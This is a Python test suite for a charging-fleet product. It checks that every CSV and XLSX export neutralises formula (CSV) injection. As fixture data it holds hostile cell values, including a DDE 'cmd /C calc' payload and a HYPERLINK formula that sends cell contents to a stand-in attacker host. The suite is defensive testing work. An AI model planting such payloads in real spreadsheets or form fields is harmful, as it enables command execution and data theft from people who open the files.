"""Every CSV and XLSX file the product writes keeps hostile text from running as a
formula in the spreadsheet program that opens it.

Dan, a driver of Acme_Home, typed formulas as his name and verification answers, and an
admin gave the connection a formula-like name and Customer ID. Every export is made here
(``EXPORTS``), its cells read back, and none may start like a formula. The source and the
API's schema are searched for exports too: one that is not in ``EXPORTS`` fails
``test_every_export_of_the_product_is_in_this_test``, and one that writes CSV or XLSX
without the shared guard (evdms/ui/spreadsheets.py) fails
``test_exports_write_only_through_the_guard``.

Run on SQLite and on PostgreSQL (where the database writes the report's CSV).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from evdms.accounts.models import Role, User
from evdms.charging.models import Charger
from evdms.connections.models import Connection
from evdms.enrolment.models import Membership
from evdms.reports import views as report_views
from evdms.reports.models import ReportExport
from evdms.reports.tests.conftest import Fleet, at, fleet, on_statement
from evdms.reports.tests.test_exports import body
from evdms.testing.fixtures import client_for
from evdms.ui.spreadsheets import FORMULA_START, CsvWriter, xlsx_cells

__all__ = ["fleet"]  # the report tests' fixture, used here too
pytestmark = pytest.mark.django_db

NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
EMAIL = "+dan@example.com"
ANSWER_1 = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
ANSWER_2 = "-2+3"
CONNECTION = "\r=2+2"
CUSTOMER_ID = "\t=1+1"
CHARGER = "=HOME-1"
NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.fixture
def hostile(fleet: Fleet) -> Fleet:
    """Dan's session and statement, with formulas wherever people type text."""
    session = fleet.session(fleet.dan, fleet.acme, at(3), 12_345)
    on_statement(session, driver_price="0.3100", cap="0.2900")
    User.objects.filter(pk=fleet.dan.pk).update(full_name=NAME, email=EMAIL)
    Membership.objects.filter(pk=fleet.dan_membership.pk).update(
        verification_1=ANSWER_1, verification_2=ANSWER_2
    )
    Connection.objects.filter(pk=fleet.acme.pk).update(name=CONNECTION, customer_id=CUSTOMER_ID)
    Charger.objects.filter(driver=fleet.dan).update(identity=CHARGER)
    return fleet


def _body(response: Any) -> bytes:
    assert response.status_code == 200, response
    return body(response)


def _in_worker(client: Client, fmt: str, monkeypatch: Any, on_commit: Any) -> bytes:
    monkeypatch.setattr(report_views, "SYNC_EXPORT_ROWS", 0)
    with on_commit(execute=True):
        client.post(reverse("reports:transactions_export"), {"format": fmt})
    export = ReportExport.objects.get(format=fmt)
    assert export.status == "done", export.error
    return _body(client.get(reverse("reports:export_file", args=[export.pk])))


def _api_export(client: Client, headers: dict[str, str], fmt: str, on_commit: Any) -> bytes:
    with on_commit(execute=True):
        made = client.post(
            "/api/v1/reports/exports",
            {"format": fmt},
            content_type="application/json",
            headers=headers,
        )
    status = client.get(f"/api/v1/reports/exports/{made.json()['id']}", headers=headers).json()
    assert status["status"] == "done", status
    return _body(client.get(status["download_url"], headers=headers))


@dataclass(frozen=True)
class Export:
    name: str
    format: str  # csv or xlsx
    modules: tuple[str, ...]  # the files (under evdms/) that make it
    make: Callable[[Fleet, dict[str, Any]], bytes]
    hostile: tuple[str, ...]  # the hostile values it must carry (neutralised)
    api_path: str = ""
    number: float = 12.345  # a number the XLSX file must keep a number


REPORT = (NAME, EMAIL, ANSWER_1, ANSWER_2, CONNECTION, CUSTOMER_ID, CHARGER)
REPORT_MODULES = ("reports/views.py", "reports/downloads.py", "reports/exports.py")
WORKER_MODULES = ("reports/tasks.py", "reports/downloads.py", "reports/exports.py")

EXPORTS = [
    Export(
        "Connections list CSV",
        "csv",
        ("connections/views.py", "connections/listing.py"),
        lambda f, x: _body(
            client_for(f.world.nadia).get(
                reverse("connections:list"), {"export": "csv", "which": "all"}
            )
        ),
        (CONNECTION, CUSTOMER_ID),
    ),
    Export(
        "Drivers list CSV",
        "csv",
        ("enrolment/views.py",),
        lambda f, x: _body(
            client_for(f.world.nadia).get(reverse("enrolment:drivers"), {"export": "csv"})
        ),
        (NAME, EMAIL, CONNECTION, ANSWER_1, ANSWER_2),
    ),
    Export(
        "Chargers page CSV",
        "csv",
        ("charging/views.py", "charging/listing.py"),
        lambda f, x: _body(
            client_for(f.world.otto).get(reverse("charging:chargers"), {"export": "csv"})
        ),
        (CHARGER, EMAIL),
    ),
    Export(
        "Home charging sessions CSV",
        "csv",
        ("charging/views.py", "charging/listing.py"),
        lambda f, x: _body(
            client_for(f.world.ana).get(reverse("charging:sessions"), {"export": "csv"})
        ),
        (EMAIL, CONNECTION, CHARGER),
    ),
    Export(
        "Statements page CSV",
        "csv",
        ("reimbursements/views.py", "reimbursements/selectors.py"),
        lambda f, x: _body(
            client_for(f.world.ana).get(reverse("reimbursements:statements"), {"export": "csv"})
        ),
        (EMAIL,),
    ),
    Export(
        "Statements API CSV",
        "csv",
        ("reimbursements/api.py", "reimbursements/selectors.py"),
        lambda f, x: _body(
            x["client"].get("/api/v1/statements.csv", headers=x["api_key"](f.world.org_a))
        ),
        (EMAIL,),
        api_path="/api/v1/statements.csv",
    ),
    Export(
        "Transactions page CSV",
        "csv",
        REPORT_MODULES,
        lambda f, x: _body(
            client_for(f.world.ana).post(reverse("reports:transactions_export"), {"format": "csv"})
        ),
        REPORT,
    ),
    Export(
        "Transactions page XLSX",
        "xlsx",
        REPORT_MODULES,
        lambda f, x: _body(
            client_for(f.world.ana).post(reverse("reports:transactions_export"), {"format": "xlsx"})
        ),
        REPORT,
    ),
    Export(
        "Transactions CSV made by the worker",
        "csv",
        WORKER_MODULES,
        lambda f, x: _in_worker(client_for(f.world.ana), "csv", x["monkeypatch"], x["on_commit"]),
        REPORT,
    ),
    Export(
        "Transactions XLSX made by the worker",
        "xlsx",
        WORKER_MODULES,
        lambda f, x: _in_worker(client_for(f.world.ana), "xlsx", x["monkeypatch"], x["on_commit"]),
        REPORT,
    ),
    Export(
        "Transactions API CSV",
        "csv",
        ("reports/api.py", "reports/exports.py"),
        lambda f, x: _body(
            x["client"].get(
                "/api/v1/reports/transactions.csv",
                headers=x["api_key"](f.world.org_a, Role.ANALYST),
            )
        ),
        REPORT,
        api_path="/api/v1/reports/transactions.csv",
    ),
    Export(
        "Transactions API export (CSV) file",
        "csv",
        ("reports/api.py", *WORKER_MODULES),
        lambda f, x: _api_export(x["client"], x["api_key"](f.world.org_a), "csv", x["on_commit"]),
        REPORT,
        api_path="/api/v1/reports/exports/{export_id}/file",
    ),
    Export(
        "Transactions API export (XLSX) file",
        "xlsx",
        ("reports/api.py", *WORKER_MODULES),
        lambda f, x: _api_export(x["client"], x["api_key"](f.world.org_a), "xlsx", x["on_commit"]),
        REPORT,
        api_path="/api/v1/reports/exports/{export_id}/file",
    ),
]


# The Home Charger Installation Report: Dan's job at Acme, with a formula as the serial
# the installer typed and a quote of 1,210.50.
INSTALLATIONS = (NAME, EMAIL, CONNECTION, CUSTOMER_ID, CHARGER)
INSTALLATIONS_NUMBER = 1210.5
INSTALLATION_MODULES = ("installations/views_organisation.py", "installations/exports.py")
INSTALLATION_WORKER = ("installations/tasks.py", "installations/exports.py")


def _installation_job(fleet: Fleet) -> None:
    from evdms.installations.models import InstallationJob, Quote

    job = InstallationJob.objects.create(
        organisation=fleet.world.org_a,
        connection=fleet.acme,
        membership=fleet.dan_membership,
        driver=fleet.dan,
        status="installed",
        charger_serial=CHARGER,
    )
    Quote.objects.create(
        job=job,
        number=1,
        payment_model="direct",
        currency="EUR",
        total_excl_vat=Decimal("1000.41"),
        total_vat=Decimal("210.09"),
        total_incl_vat=Decimal("1210.50"),
        organisation_share=Decimal("1000.00"),
        driver_share=Decimal("210.50"),
        status="approved",
    )


def _installations(client: Client, fmt: str, fleet: Fleet) -> bytes:
    _installation_job(fleet)
    return _body(client.post(reverse("installations:report_export"), {"format": fmt}))


def _installations_in_worker(fleet: Fleet, fmt: str, x: dict[str, Any]) -> bytes:
    from evdms.installations import views_organisation

    _installation_job(fleet)
    client = client_for(fleet.world.otto)
    x["monkeypatch"].setattr(views_organisation, "SYNC_EXPORT_ROWS", 0)
    with x["on_commit"](execute=True):
        client.post(reverse("installations:report_export"), {"format": fmt})
    export = ReportExport.objects.get(format=fmt, report="installations")
    assert export.status == "done", export.error
    return _body(client.get(reverse("installations:export_file", args=[export.pk])))


def _installations_api(fleet: Fleet, x: dict[str, Any]) -> bytes:
    _installation_job(fleet)
    headers = x["api_key"](fleet.world.org_a, Role.ANALYST)
    return _body(x["client"].get("/api/v1/installations.csv", headers=headers))


EXPORTS += [
    Export(
        "Installations page CSV",
        "csv",
        INSTALLATION_MODULES,
        lambda f, x: _installations(client_for(f.world.ana), "csv", f),
        INSTALLATIONS,
    ),
    Export(
        "Installations page XLSX",
        "xlsx",
        INSTALLATION_MODULES,
        lambda f, x: _installations(client_for(f.world.ana), "xlsx", f),
        INSTALLATIONS,
        number=INSTALLATIONS_NUMBER,
    ),
    Export(
        "Installations CSV made by the worker",
        "csv",
        INSTALLATION_WORKER,
        lambda f, x: _installations_in_worker(f, "csv", x),
        INSTALLATIONS,
    ),
    Export(
        "Installations XLSX made by the worker",
        "xlsx",
        INSTALLATION_WORKER,
        lambda f, x: _installations_in_worker(f, "xlsx", x),
        INSTALLATIONS,
        number=INSTALLATIONS_NUMBER,
    ),
    Export(
        "Installations API CSV",
        "csv",
        ("installations/api.py", "installations/exports.py"),
        lambda f, x: _installations_api(f, x),
        INSTALLATIONS,
        api_path="/api/v1/installations.csv",
    ),
]


INVOICE = (NAME, ANSWER_1, ANSWER_2, CUSTOMER_ID, CHARGER)


def _hostile_invoice(fleet: Fleet) -> Any:
    """A Transactions invoice whose session line carries what drivers and partners typed."""
    from datetime import UTC, date, datetime

    from evdms.invoicing.models import InvoiceKind, LineSource
    from evdms.invoicing.services.issue import DraftLine, invoice_issue

    organisation = fleet.world.org_a
    organisation.accounts_payable_email = "ap@voltlease.example"
    organisation.save()
    line = DraftLine(
        source=LineSource.PUBLIC_SESSION,
        description="Public charging",
        quantity=Decimal("12.345"),
        unit="KWH",
        unit_price=Decimal("0.30"),
        driver_name=NAME,
        verification_1=ANSWER_1,
        verification_2=ANSWER_2,
        customer_id=CUSTOMER_ID,
        place=CHARGER,
        energy_wh=12_345,
        occurred_at=datetime(2026, 10, 3, 18, tzinfo=UTC),
    )
    return invoice_issue(
        organisation=organisation,
        kind=InvoiceKind.TRANSACTIONS,
        month=date(2026, 10, 1),
        lines=[line],
    )


def _invoice_page_csv(fleet: Fleet) -> bytes:
    invoice = _hostile_invoice(fleet)
    url = reverse("invoicing:lines_csv", args=[invoice.pk])
    return _body(client_for(fleet.world.ana).get(url))


def _invoice_api_csv(fleet: Fleet, x: dict[str, Any]) -> bytes:
    invoice = _hostile_invoice(fleet)
    headers = x["api_key"](fleet.world.org_a, Role.ANALYST)
    return _body(x["client"].get(f"/api/v1/invoices/{invoice.pk}/lines.csv", headers=headers))


def _invoice_emailed_csv(fleet: Fleet, x: dict[str, Any]) -> bytes:
    from django.core import mail

    from evdms.invoicing.delivery import invoice_send

    invoice = _hostile_invoice(fleet)
    with x["on_commit"](execute=True):  # the outbox sends once the claim commits
        assert invoice_send(invoice.pk)
    attachments = [a for m in mail.outbox for a in m.attachments if a[0].endswith(".csv")]
    assert len(attachments) == 1
    content = attachments[0][1]
    return content.encode() if isinstance(content, str) else content


INVOICE_MODULES = ("invoicing/lines_csv.py", "invoicing/downloads.py")
EXPORTS += [
    Export(
        "Invoice lines CSV (page)",
        "csv",
        (*INVOICE_MODULES, "invoicing/views.py"),
        lambda f, x: _invoice_page_csv(f),
        INVOICE,
    ),
    Export(
        "Invoice lines CSV (API)",
        "csv",
        (*INVOICE_MODULES, "invoicing/api.py"),
        _invoice_api_csv,
        INVOICE,
        api_path="/api/v1/invoices/{invoice_id}/lines.csv",
    ),
    Export(
        "Invoice lines CSV e-mailed to Accounts Payable",
        "csv",
        ("invoicing/lines_csv.py", "invoicing/delivery.py"),
        _invoice_emailed_csv,
        INVOICE,
    ),
]


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


@pytest.mark.parametrize("export", EXPORTS, ids=[e.name for e in EXPORTS])
def test_no_cell_of_any_export_runs_as_a_formula(
    export: Export,
    hostile: Fleet,
    client,
    api_key_for,
    monkeypatch,
    django_capture_on_commit_callbacks,
):
    data = export.make(
        hostile,
        {
            "client": client,
            "api_key": api_key_for,
            "monkeypatch": monkeypatch,
            "on_commit": django_capture_on_commit_callbacks,
        },
    )
    if export.format == "csv":
        texts = _csv_cells(data)
        live = [c for c in texts if c[:1] in FORMULA_START and not NUMBER.fullmatch(c)]
        assert live == []
        for value in export.hostile:  # written, and shown as the text it is
            assert "'" + value in texts
    else:
        sheet = load_workbook(io.BytesIO(data)).active
        assert sheet is not None
        cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        # XML reads a carriage return as a line feed (unless openpyxl wrote it escaped).
        text_cells = {c.value.replace("\r", "\n"): c for c in cells if c.data_type == "s"}
        for value in export.hostile:
            # Text, kept as text when someone edits the cell (the quote-prefix style). XML
            # reads a carriage return as a line feed.
            assert text_cells[value.replace("\r", "\n")].quotePrefix
        assert export.number in [c.value for c in cells if c.data_type == "n"]  # numbers stay


def test_numbers_stay_numbers_even_when_negative():
    """The guard is for text: a refund of -3.50 is a number, not the text "'-3.50"."""
    out = io.StringIO()
    CsvWriter(out, lineterminator="\n").writerow([Decimal("-3.50"), -7, "-3.50"])
    assert out.getvalue() == "-3.50,-7,'-3.50\n"
    from openpyxl import Workbook

    sheet = Workbook(write_only=True).create_sheet()
    amount, count, text = xlsx_cells(sheet, [Decimal("-3.50"), -7, "-3.50"])
    assert (amount, count) == (Decimal("-3.50"), -7) and text.data_type == "s"


EVDMS = Path(__file__).resolve().parents[2]
# What makes a file an export: the content types, the writers, a database dump.
EXPORT_MARKERS = re.compile(
    r"text/csv|spreadsheetml|CSV_TYPE|XLSX_TYPE|csv\.writer|DictWriter|openpyxl|xlsxwriter"
    r"|TO STDOUT|CsvWriter|xlsx_cells"
)


def _sources() -> dict[str, str]:
    return {
        str(path.relative_to(EVDMS)): path.read_text()
        for path in EVDMS.rglob("*.py")
        if "tests" not in path.parts and "migrations" not in path.parts
    }


def test_every_export_of_the_product_is_in_this_test(client):
    covered = {module for export in EXPORTS for module in export.modules}
    making = {
        name
        for name, text in _sources().items()
        if EXPORT_MARKERS.search(text) and name != "ui/spreadsheets.py"
    }
    assert making - covered == set(), "an export missing from EXPORTS: add a case for it"
    schema = client.get("/api/v1/openapi.json").json()
    downloads = {
        "/api/v1" + p if not p.startswith("/api/v1") else p
        for p in schema["paths"]
        if p.endswith((".csv", ".xlsx", "/file"))
    }
    assert downloads - {e.api_path for e in EXPORTS} == set()


def test_exports_write_only_through_the_guard():
    for name, text in _sources().items():
        if name == "ui/spreadsheets.py":
            continue
        assert not re.search(r"csv\.(writer|DictWriter)\(", text), f"{name}: use CsvWriter"
        if "openpyxl" in text:
            assert "xlsx_cells(" in text, f"{name}: append rows through xlsx_cells"
        if "TO STDOUT" in text:
            assert "pg_text_cell(" in text, f"{name}: guard COPY's text with pg_text_cell"
